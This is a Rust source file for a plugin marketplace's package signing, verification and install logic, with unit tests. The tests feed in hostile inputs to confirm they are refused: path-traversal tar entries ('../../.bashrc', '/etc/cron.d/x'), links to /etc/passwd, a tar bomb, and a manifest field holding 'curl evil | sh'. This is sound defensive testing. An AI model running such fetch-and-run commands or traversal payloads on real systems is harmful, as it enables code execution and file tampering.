//! Marketplace packages: build, sign, verify, install, upgrade, uninstall.
//!
//! A package is one tar archive, byte-for-byte reproducible (entries in a fixed order with
//! zeroed times, owners and modes):
//! - `manifest.json`: the package manifest — the plugin's own manifest (id, versions, the
//!   outbound destinations, secrets and settings it asks for), the publisher, the publisher's
//!   ed25519 public key, and the SHA-256 of the component and of the README;
//! - `manifest.sig`: the publisher's ed25519 signature over `manifest.json`, hex;
//! - `plugin.wasm`: the component;
//! - `README.md`: the user-facing part of the README, for the marketplace page.
//!
//! The signature covers `manifest.json`, and through its hashes every other file. Installing
//! checks, in order, and refuses with the [`PackageError`] variant of the check that failed:
//! the archive's shape, the signer is trusted, the signature holds, the component's and the
//! README's hashes match, the component's own type exports the declared API version and
//! imports only what the host provides (and no network unless destinations are declared).
//! Only then are files written and the plugin registered; a refusal leaves the installed set
//! as it was.

use std::io::Read as _;
use std::path::{Path, PathBuf};

use ed25519_dalek::{Signature, Signer as _, SigningKey, Verifier as _, VerifyingKey};
use semver::Version;
use serde::{Deserialize, Serialize};
use sha2::{Digest as _, Sha256};

use crate::error::{Error, PackageError};
use crate::manifest::Manifest;
use crate::storage::{HostStore, InstalledPlugin};

/// The package format this host writes and reads.
pub const FORMAT: &str = "pos-sms-package/2";
/// Packages larger than this are refused unread.
const MAX_PACKAGE_BYTES: u64 = 16 * 1024 * 1024;
/// The most `manifest.json`, `manifest.sig` or `README.md` may hold (the component may have
/// the whole package's size).
const MAX_TEXT_BYTES: u64 = 256 * 1024;

/// `manifest.json` of a package.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PackageManifest {
    /// [`FORMAT`].
    pub format: String,
    /// The plugin's own manifest, as it ships with the plugin.
    pub plugin: serde_json::Value,
    /// Who publishes it.
    pub publisher: String,
    /// The publisher's ed25519 public key, hex.
    pub publisher_key: String,
    /// SHA-256 of `plugin.wasm`, hex.
    pub wasm_sha256: String,
    /// SHA-256 of `README.md`, hex.
    pub readme_sha256: String,
}

fn sha256_hex(bytes: &[u8]) -> String {
    hex::encode(Sha256::digest(bytes))
}

/// `N` bytes from `text` in hex (surrounding white space allowed).
fn unhex<const N: usize>(text: &str, what: &str) -> Result<[u8; N], String> {
    let mut out = [0u8; N];
    hex::decode_to_slice(text.trim(), &mut out)
        .map_err(|e| format!("{what} must be {} hex characters ({e})", N * 2))?;
    Ok(out)
}

fn io<'a>(
    action: &'static str,
    path: &'a Path,
) -> impl FnOnce(std::io::Error) -> PackageError + 'a {
    move |source| PackageError::Io {
        action,
        path: path.to_path_buf(),
        source,
    }
}

/// Creates a signing key: `key` holds the secret (mode 0600), `key.pub` the public key.
/// Returns the public key, hex.
pub fn keygen(key: &Path) -> Result<String, Error> {
    let secret: [u8; 32] = rand::random();
    let signing = SigningKey::from_bytes(&secret);
    let public = hex::encode(signing.verifying_key().as_bytes());
    write_private(key, &hex::encode(secret))?;
    let public_path = public_path(key);
    std::fs::write(&public_path, format!("{public}\n")).map_err(io("writing", &public_path))?;
    Ok(public)
}

/// `key` → `key.pub`.
pub fn public_path(key: &Path) -> PathBuf {
    let mut name = key.as_os_str().to_owned();
    name.push(".pub");
    PathBuf::from(name)
}

fn write_private(path: &Path, text: &str) -> Result<(), PackageError> {
    let mut options = std::fs::OpenOptions::new();
    options.write(true).create_new(true);
    #[cfg(unix)]
    std::os::unix::fs::OpenOptionsExt::mode(&mut options, 0o600);
    let mut file = options
        .open(path)
        .map_err(io("creating (it must not exist yet)", path))?;
    std::io::Write::write_all(&mut file, text.as_bytes()).map_err(io("writing", path))
}

/// Reads a signing key written by [`keygen`].
pub fn read_signing_key(path: &Path) -> Result<SigningKey, Error> {
    let text = std::fs::read_to_string(path).map_err(io("reading the signing key", path))?;
    let secret = unhex::<32>(&text, "the signing key").map_err(PackageError::Key)?;
    Ok(SigningKey::from_bytes(&secret))
}

/// The user-facing part of the README: everything before the CLI reference.
pub fn user_readme(readme: &str) -> String {
    match readme.find("\n## The CLI") {
        Some(end) => format!("{}\n", readme[..end].trim_end()),
        None => readme.to_string(),
    }
}

/// Builds a package for `wasm` with `plugin_manifest` and `readme`, signed with `key`.
pub fn build(
    wasm: &[u8],
    plugin_manifest: &str,
    readme: &str,
    publisher: &str,
    key: &SigningKey,
) -> Result<Vec<u8>, Error> {
    Manifest::parse(plugin_manifest).map_err(PackageError::PluginManifest)?;
    let manifest = PackageManifest {
        format: FORMAT.into(),
        plugin: serde_json::from_str(plugin_manifest)
            .map_err(|e| PackageError::Manifest(e.to_string()))?,
        publisher: publisher.into(),
        publisher_key: hex::encode(key.verifying_key().as_bytes()),
        wasm_sha256: sha256_hex(wasm),
        readme_sha256: sha256_hex(readme.as_bytes()),
    };
    let manifest_bytes =
        serde_json::to_vec_pretty(&manifest).map_err(|e| PackageError::Manifest(e.to_string()))?;
    let signature = hex::encode(key.sign(&manifest_bytes).to_bytes());
    let mut archive = tar::Builder::new(Vec::new());
    let archive_failed = |e: std::io::Error| PackageError::Archive(e.to_string());
    for (name, bytes) in [
        ("manifest.json", manifest_bytes.as_slice()),
        ("manifest.sig", signature.as_bytes()),
        ("plugin.wasm", wasm),
        ("README.md", readme.as_bytes()),
    ] {
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.len() as u64);
        header.set_mode(0o644);
        header.set_mtime(0);
        header.set_uid(0);
        header.set_gid(0);
        header.set_cksum();
        archive
            .append_data(&mut header, name, bytes)
            .map_err(archive_failed)?;
    }
    Ok(archive.into_inner().map_err(archive_failed)?)
}

/// A package's contents, read but not yet trusted.
pub struct Unpacked {
    /// `manifest.json`, as bytes (the signature covers these exact bytes).
    pub manifest_bytes: Vec<u8>,
    /// `manifest.sig`.
    pub signature: Vec<u8>,
    /// `plugin.wasm`.
    pub wasm: Vec<u8>,
    /// `README.md`.
    pub readme: Vec<u8>,
}

/// Reads a package file.
pub fn unpack(path: &Path) -> Result<Unpacked, PackageError> {
    let file = std::fs::File::open(path).map_err(io("opening the package", path))?;
    let size = file
        .metadata()
        .map_err(io("reading the package", path))?
        .len();
    if size > MAX_PACKAGE_BYTES {
        return Err(PackageError::Archive(format!(
            "the package is {size} bytes, more than the {MAX_PACKAGE_BYTES} a package may have"
        )));
    }
    read_archive(file)
}

/// Reads a package from memory (what [`unpack`] does after opening the file).
pub fn unpack_bytes(bytes: &[u8]) -> Result<Unpacked, PackageError> {
    let size = bytes.len() as u64;
    if size > MAX_PACKAGE_BYTES {
        return Err(PackageError::Archive(format!(
            "the package is {size} bytes, more than the {MAX_PACKAGE_BYTES} a package may have"
        )));
    }
    read_archive(bytes)
}

/// The four files of a package's tar archive, each checked before it is read.
fn read_archive(reader: impl std::io::Read) -> Result<Unpacked, PackageError> {
    let shape = |why: String| PackageError::Archive(why);
    let mut archive = tar::Archive::new(reader);
    let (mut manifest, mut signature, mut wasm, mut readme) = (None, None, None, None);
    let entries = archive
        .entries()
        .map_err(|e| shape(format!("it is not a tar archive ({e})")))?;
    for entry in entries {
        let mut entry = entry.map_err(|e| shape(format!("it is damaged ({e})")))?;
        let name = entry
            .path()
            .map_err(|e| shape(format!("an entry has an unreadable name ({e})")))?
            .to_string_lossy()
            .into_owned();
        let (slot, limit) = match name.as_str() {
            "manifest.json" => (&mut manifest, MAX_TEXT_BYTES),
            "manifest.sig" => (&mut signature, MAX_TEXT_BYTES),
            "plugin.wasm" => (&mut wasm, MAX_PACKAGE_BYTES),
            "README.md" => (&mut readme, MAX_TEXT_BYTES),
            other => return Err(shape(format!("it has an unexpected file '{other}'"))),
        };
        // Only plain files: a link or a device in a package is never the publisher's file.
        let kind = entry.header().entry_type();
        if !kind.is_file() {
            return Err(shape(format!(
                "'{name}' is a {} entry, not a plain file",
                entry_kind(kind)
            )));
        }
        // The header's size is checked before anything is read or allocated.
        let declared = entry.size();
        if declared > limit {
            return Err(shape(format!(
                "'{name}' declares {declared} bytes, more than the {limit} it may have"
            )));
        }
        let mut bytes = Vec::new();
        (&mut entry)
            .take(limit)
            .read_to_end(&mut bytes)
            .map_err(|e| shape(format!("'{name}' is damaged ({e})")))?;
        if slot.replace(bytes).is_some() {
            return Err(shape(format!("it has '{name}' twice")));
        }
    }
    let need =
        |part: Option<Vec<u8>>, name: &str| part.ok_or_else(|| shape(format!("it has no {name}")));
    Ok(Unpacked {
        manifest_bytes: need(manifest, "manifest.json")?,
        signature: need(signature, "manifest.sig")?,
        wasm: need(wasm, "plugin.wasm")?,
        readme: need(readme, "README.md")?,
    })
}

/// What a tar entry that is not a plain file is, in words.
fn entry_kind(kind: tar::EntryType) -> &'static str {
    match kind {
        tar::EntryType::Symlink => "symbolic link",
        tar::EntryType::Link => "hard link",
        tar::EntryType::Char | tar::EntryType::Block => "device",
        tar::EntryType::Directory => "directory",
        tar::EntryType::Fifo => "FIFO",
        _ => "special",
    }
}

/// A package whose signature, signer and hashes have been checked.
pub struct Verified {
    /// The package manifest.
    pub package: PackageManifest,
    /// The plugin manifest inside it, parsed and checked.
    pub plugin: Manifest,
    /// The plugin manifest's JSON text, to install beside the component.
    pub plugin_manifest_json: String,
    /// The component.
    pub wasm: Vec<u8>,
}

/// Checks the signer (`trusted` holds the hex public keys this host trusts), the signature
/// and the hashes of the component and the README.
pub fn verify(unpacked: Unpacked, trusted: &[String]) -> Result<Verified, PackageError> {
    let package: PackageManifest = serde_json::from_slice(&unpacked.manifest_bytes)
        .map_err(|e| PackageError::Manifest(format!("manifest.json is not one ({e})")))?;
    if package.format != FORMAT {
        return Err(PackageError::Manifest(format!(
            "the package format is '{}', and this host reads {FORMAT}",
            package.format
        )));
    }
    if !trusted
        .iter()
        .any(|k| k.trim().eq_ignore_ascii_case(&package.publisher_key))
    {
        return Err(PackageError::UnknownSigner {
            publisher: package.publisher,
            key: package.publisher_key,
        });
    }
    let key = unhex::<32>(&package.publisher_key, "publisher_key")
        .ok()
        .and_then(|k| VerifyingKey::from_bytes(&k).ok())
        .ok_or(PackageError::Signature)?;
    let signature = std::str::from_utf8(&unpacked.signature)
        .ok()
        .and_then(|text| unhex::<64>(text, "manifest.sig").ok())
        .ok_or(PackageError::Signature)?;
    key.verify(&unpacked.manifest_bytes, &Signature::from_bytes(&signature))
        .map_err(|_| PackageError::Signature)?;
    for (file, bytes, expected) in [
        ("plugin.wasm", &unpacked.wasm, &package.wasm_sha256),
        ("README.md", &unpacked.readme, &package.readme_sha256),
    ] {
        let actual = sha256_hex(bytes);
        if !actual.eq_ignore_ascii_case(expected) {
            return Err(PackageError::Hash {
                file,
                actual,
                expected: expected.clone(),
            });
        }
    }
    let plugin_manifest_json = serde_json::to_string_pretty(&package.plugin)
        .map_err(|e| PackageError::Manifest(e.to_string()))?;
    let plugin = Manifest::parse(&plugin_manifest_json).map_err(PackageError::PluginManifest)?;
    Ok(Verified {
        package,
        plugin,
        plugin_manifest_json,
        wasm: unpacked.wasm,
    })
}

/// Checks the component's own type against what its manifest claims: the exported API
/// version (see [`crate::api::check_plugin`]), and that it imports the network only when it
/// declares destinations.
pub fn check_component(
    manifest: &Manifest,
    exports: &[String],
    imports: &[String],
) -> Result<(), PackageError> {
    crate::api::check_plugin(manifest, exports).map_err(PackageError::ApiVersion)?;
    let network: Vec<String> = imports
        .iter()
        .filter(|i| i.starts_with("wasi:http/outgoing-handler@") || i.starts_with("wasi:sockets/"))
        .cloned()
        .collect();
    if !network.is_empty() && manifest.outbound.is_empty() {
        return Err(PackageError::DeclaredNetwork { imports: network });
    }
    Ok(())
}

/// Install a new plugin, or upgrade an installed one.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Mode {
    /// The plugin must not be installed yet.
    Install,
    /// The plugin must be installed; a version that is not newer needs `force`.
    Upgrade {
        /// Allow a downgrade or reinstall.
        force: bool,
    },
}

/// The public keys this host trusts: `<data>/trusted-keys/*.pub`.
pub fn trusted_keys(data_dir: &Path) -> Vec<String> {
    let Ok(entries) = std::fs::read_dir(data_dir.join("trusted-keys")) else {
        return Vec::new();
    };
    entries
        .flatten()
        .filter(|e| e.path().extension().is_some_and(|x| x == "pub"))
        .filter_map(|e| std::fs::read_to_string(e.path()).ok())
        .map(|k| k.trim().to_string())
        .collect()
}

/// Trusts a publisher's public key (a `.pub` file from [`keygen`]). Returns the key, hex.
pub fn trust(data_dir: &Path, public_key_file: &Path) -> Result<String, Error> {
    let text = std::fs::read_to_string(public_key_file).map_err(io("reading", public_key_file))?;
    let key = unhex::<32>(&text, "the public key").map_err(PackageError::Key)?;
    VerifyingKey::from_bytes(&key)
        .map_err(|_| PackageError::Key("that is not an ed25519 public key".into()))?;
    let dir = data_dir.join("trusted-keys");
    std::fs::create_dir_all(&dir).map_err(io("creating", &dir))?;
    let hex_key = hex::encode(key);
    let file = dir.join(format!("{}.pub", &hex_key[..16]));
    std::fs::write(&file, format!("{hex_key}\n")).map_err(io("writing", &file))?;
    Ok(hex_key)
}

/// Every installed plugin, by id.
pub fn installed(data_dir: &Path) -> Result<Vec<InstalledPlugin>, Error> {
    Ok(HostStore::open(data_dir)?.installed_plugins()?)
}

/// One installed plugin, or [`PackageError::NotInstalled`].
pub fn installed_plugin(data_dir: &Path, id: &str) -> Result<InstalledPlugin, Error> {
    HostStore::open(data_dir)?
        .installed_plugin(id)?
        .ok_or_else(|| PackageError::NotInstalled { id: id.into() }.into())
}

/// Verifies `package` and installs (or upgrades) it under `<data>/plugins/<id>/<version>-<nonce>/`,
/// precompiling it into `<data>/cache`. On any refusal nothing is written.
pub fn install(data_dir: &Path, package: &Path, mode: Mode) -> Result<InstalledPlugin, Error> {
    let verified = verify(unpack(package)?, &trusted_keys(data_dir))?;
    let engine = crate::runtime::new_engine(1)?;
    let (component, _) =
        crate::runtime::load_component(&engine, &verified.wasm, &data_dir.join("cache"))
            .map_err(|e| PackageError::Compile(e.to_string()))?;
    let (imports, exports) = crate::runtime::interface_names(&engine, &component);
    check_component(&verified.plugin, &exports, &imports)?;
    crate::imports::linker(&engine)?
        .instantiate_pre(&component)
        .map_err(|e| PackageError::Imports(format!("{e:#}")))?;

    let store = HostStore::open(data_dir)?;
    let id = &verified.plugin.id;
    let candidate = &verified.plugin.version;
    let current = store.installed_plugin(id)?;
    match (mode, &current) {
        (Mode::Install, Some(old)) => {
            return Err(PackageError::AlreadyInstalled {
                id: id.clone(),
                version: old.version.clone(),
            }
            .into());
        }
        (Mode::Upgrade { .. }, None) => {
            return Err(PackageError::NotInstalled { id: id.clone() }.into());
        }
        (Mode::Upgrade { force: false }, Some(old))
            if Version::parse(&old.version).is_ok_and(|installed| *candidate <= installed) =>
        {
            return Err(PackageError::NotNewer {
                id: id.clone(),
                installed: old.version.clone(),
                candidate: candidate.to_string(),
            }
            .into());
        }
        _ => {}
    }
    // Each install gets a directory of its own (the version and a random suffix), written in
    // a staging directory and renamed into place, and the registry switches to it in one
    // transaction: the directory the registry points at is never written to, so an install
    // or upgrade killed at any moment leaves the previous plugin installed and working.
    let plugin_dir = data_dir.join("plugins").join(id);
    let nonce = hex::encode(rand::random::<[u8; 4]>());
    let dir = plugin_dir.join(format!("{candidate}-{nonce}"));
    let staging = plugin_dir.join(format!(".staging-{nonce}"));
    std::fs::create_dir_all(&staging).map_err(io("creating", &staging))?;
    write_synced(&staging.join("plugin.wasm"), &verified.wasm)?;
    write_synced(
        &staging.join("plugin.manifest.json"),
        verified.plugin_manifest_json.as_bytes(),
    )?;
    std::fs::rename(&staging, &dir).map_err(io("moving into place", &dir))?;
    sync_dir(&plugin_dir)?;
    let installed = InstalledPlugin {
        id: id.clone(),
        version: candidate.to_string(),
        api_version: verified.plugin.api_version.to_string(),
        publisher: verified.package.publisher.clone(),
        granted: verified
            .plugin
            .outbound
            .iter()
            .map(|o| o.to_string())
            .collect(),
        secrets: verified.plugin.secrets.clone(),
        dir,
    };
    store.register_plugin(&installed)?;
    // What the registry no longer points at goes: the version before, and whatever an
    // install killed earlier left behind.
    if let Ok(entries) = std::fs::read_dir(&plugin_dir) {
        for entry in entries.flatten() {
            if entry.path() != installed.dir {
                let _ = std::fs::remove_dir_all(entry.path());
            }
        }
    }
    if let Some(old) = current.filter(|old| old.dir != installed.dir) {
        let _ = std::fs::remove_dir_all(&old.dir);
    }
    Ok(installed)
}

/// Writes `bytes` to a new file at `path` and waits until they are on disk.
fn write_synced(path: &Path, bytes: &[u8]) -> Result<(), PackageError> {
    let mut file = std::fs::File::create(path).map_err(io("creating", path))?;
    std::io::Write::write_all(&mut file, bytes).map_err(io("writing", path))?;
    file.sync_all().map_err(io("writing", path))
}

/// Makes a rename in `dir` durable.
fn sync_dir(dir: &Path) -> Result<(), PackageError> {
    #[cfg(unix)]
    std::fs::File::open(dir)
        .and_then(|d| d.sync_all())
        .map_err(io("writing", dir))?;
    Ok(())
}

/// Removes an installed plugin's code and registration, and with `purge_secrets` the
/// secrets its manifest says it stores.
pub fn uninstall(data_dir: &Path, id: &str, purge_secrets: bool) -> Result<InstalledPlugin, Error> {
    let store = HostStore::open(data_dir)?;
    let installed = store
        .installed_plugin(id)?
        .ok_or_else(|| PackageError::NotInstalled { id: id.into() })?;
    store.unregister_plugin(id)?;
    if purge_secrets {
        for name in &installed.secrets {
            store.delete_secret(name)?;
        }
    }
    let _ = std::fs::remove_dir_all(&installed.dir);
    Ok(installed)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn key() -> SigningKey {
        SigningKey::from_bytes(&[7; 32])
    }

    fn trusted() -> Vec<String> {
        vec![hex::encode(key().verifying_key().as_bytes())]
    }

    fn unpacked(bytes: &[u8]) -> Unpacked {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("p.tar");
        std::fs::write(&path, bytes).unwrap();
        unpack(&path).unwrap()
    }

    fn package() -> Vec<u8> {
        let manifest = crate::manifest::EMBEDDED_MANIFEST;
        build(b"\0asm-ish", manifest, "# readme\n", "Acme", &key()).unwrap()
    }

    #[test]
    fn packages_are_reproducible_and_round_trip() {
        let (a, b) = (package(), package());
        assert_eq!(a, b, "same inputs, same bytes");
        let v = verify(unpacked(&a), &trusted()).unwrap();
        assert_eq!(v.plugin.id, "pos-sms-twilio");
        assert_eq!(v.wasm, b"\0asm-ish");
        assert_eq!(v.package.publisher, "Acme");
        assert_eq!(v.package.readme_sha256, sha256_hex(b"# readme\n"));
    }

    #[test]
    fn the_readme_is_covered_by_the_signature() {
        let mut u = unpacked(&package());
        u.readme = b"# readme\nInstall from evil.example instead.\n".to_vec();
        match verify(u, &trusted()) {
            Err(PackageError::Hash {
                file: "README.md",
                expected,
                actual,
            }) => {
                assert_eq!(expected, sha256_hex(b"# readme\n"));
                assert_ne!(actual, expected);
            }
            Err(other) => panic!("expected the README hash check, got {other}"),
            Ok(_) => panic!("a changed README must be refused"),
        }
    }

    #[test]
    fn each_check_is_its_own_variant() {
        let mut u = unpacked(&package());
        u.wasm.push(0);
        assert!(matches!(
            verify(u, &trusted()),
            Err(PackageError::Hash {
                file: "plugin.wasm",
                ..
            })
        ));
        assert!(matches!(
            verify(unpacked(&package()), &[]),
            Err(PackageError::UnknownSigner { publisher, .. }) if publisher == "Acme"
        ));
        for bad in [
            b"abc".to_vec(),
            b"00".repeat(63),
            b"zz".repeat(64),
            vec![0xff; 128],
        ] {
            let mut u = unpacked(&package());
            u.signature = bad;
            assert!(matches!(
                verify(u, &trusted()),
                Err(PackageError::Signature)
            ));
        }
        let mut u = unpacked(&package());
        u.manifest_bytes = String::from_utf8(u.manifest_bytes)
            .unwrap()
            .replace("Acme", "Acne")
            .into_bytes();
        assert!(matches!(
            verify(u, &trusted()),
            Err(PackageError::Signature)
        ));
        let mut u = unpacked(&package());
        u.manifest_bytes = b"{}".to_vec();
        assert!(matches!(
            verify(u, &trusted()),
            Err(PackageError::Manifest(_))
        ));
    }

    #[test]
    fn archive_shapes_are_refused() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("p.tar");
        std::fs::write(
            &path,
            b"not a tar at all, but long enough to have a header? no",
        )
        .unwrap();
        assert!(matches!(unpack(&path), Err(PackageError::Archive(_))));
        let mut builder = tar::Builder::new(Vec::new());
        for name in ["manifest.json", "manifest.json"] {
            let mut header = tar::Header::new_gnu();
            header.set_size(2);
            header.set_cksum();
            builder.append_data(&mut header, name, &b"{}"[..]).unwrap();
        }
        std::fs::write(&path, builder.into_inner().unwrap()).unwrap();
        assert!(matches!(
            unpack(&path),
            Err(PackageError::Archive(why)) if why == "it has 'manifest.json' twice"
        ));
        assert!(matches!(
            unpack(&dir.path().join("missing.tar")),
            Err(PackageError::Io { .. })
        ));
    }

    /// A tar archive of raw entries: `(name, type, declared size, data)`, names written into
    /// the header as given (no checks, as an attacker's tool would).
    fn raw_tar(entries: &[(&str, tar::EntryType, u64, &[u8])]) -> Vec<u8> {
        let mut out = Vec::new();
        for (name, kind, size, data) in entries {
            let mut header = tar::Header::new_gnu();
            header.as_gnu_mut().unwrap().name[..name.len()].copy_from_slice(name.as_bytes());
            header.set_entry_type(*kind);
            header.set_size(*size);
            header.set_mode(0o644);
            if kind.is_symlink() || kind.is_hard_link() {
                header.set_link_name("/etc/passwd").unwrap();
            }
            header.set_cksum();
            out.extend_from_slice(header.as_bytes());
            out.extend_from_slice(data);
            out.resize(out.len().div_ceil(512) * 512, 0);
        }
        out.extend_from_slice(&[0; 1024]);
        out
    }

    fn refusal(bytes: &[u8]) -> String {
        match unpack_bytes(bytes) {
            Err(PackageError::Archive(why)) => why,
            Err(other) => panic!("expected an archive refusal, got {other:?}"),
            Ok(_) => panic!("the archive was accepted"),
        }
    }

    #[test]
    fn hostile_archives_are_refused_before_anything_is_read() {
        use tar::EntryType as T;
        let cases: Vec<(Vec<u8>, String)> = vec![
            (
                raw_tar(&[("../../.bashrc", T::Regular, 2, b"hi")]),
                "it has an unexpected file '../../.bashrc'".into(),
            ),
            (
                raw_tar(&[("/etc/cron.d/x", T::Regular, 2, b"hi")]),
                "it has an unexpected file '/etc/cron.d/x'".into(),
            ),
            (
                raw_tar(&[("plugin.wasm", T::Symlink, 0, b"")]),
                "'plugin.wasm' is a symbolic link entry, not a plain file".into(),
            ),
            (
                raw_tar(&[("manifest.json", T::Link, 0, b"")]),
                "'manifest.json' is a hard link entry, not a plain file".into(),
            ),
            (
                raw_tar(&[("README.md", T::Char, 0, b"")]),
                "'README.md' is a device entry, not a plain file".into(),
            ),
            (
                raw_tar(&[("plugin.wasm", T::Regular, 10 << 30, b"")]),
                "'plugin.wasm' declares 10737418240 bytes, more than the 16777216 it may have"
                    .into(),
            ),
            (
                raw_tar(&[("manifest.json", T::Regular, 300 * 1024, &[b' '; 300 * 1024])]),
                "'manifest.json' declares 307200 bytes, more than the 262144 it may have".into(),
            ),
        ];
        for (bytes, why) in cases {
            assert_eq!(refusal(&bytes), why);
        }
        // A tar bomb of many small entries stops at the second of a name, or the first
        // stranger.
        let many: Vec<(&str, T, u64, &[u8])> = (0..10_000)
            .map(|_| ("README.md", T::Regular, 1, &b"x"[..]))
            .collect();
        assert_eq!(refusal(&raw_tar(&many)), "it has 'README.md' twice");
    }

    #[test]
    fn hostile_manifests_are_refused() {
        let refused = |manifest: Vec<u8>| {
            let mut u = unpacked(&package());
            u.manifest_bytes = manifest;
            match verify(u, &trusted()) {
                Err(PackageError::Manifest(why)) => why,
                other => panic!("expected a manifest refusal, got {:?}", other.err()),
            }
        };
        // The plugin's own manifest is free-form JSON until it is parsed: nest it deep.
        let deep = format!(
            r#"{{"plugin": {}{}}}"#,
            "[".repeat(100_000),
            "]".repeat(100_000)
        );
        assert!(
            refused(deep.into_bytes()).contains("recursion limit exceeded"),
            "a deeply nested manifest"
        );
        let mut extra: serde_json::Value =
            serde_json::from_slice(&unpacked(&package()).manifest_bytes).unwrap();
        extra["install_script"] = serde_json::json!("curl evil | sh");
        let why = refused(serde_json::to_vec(&extra).unwrap());
        assert!(why.contains("unknown field `install_script`"), "{why}");
    }

    #[test]
    fn user_readme_stops_before_the_cli_reference() {
        assert_eq!(
            user_readme("# T\nintro\n\n## The CLI\nflags"),
            "# T\nintro\n"
        );
    }
}
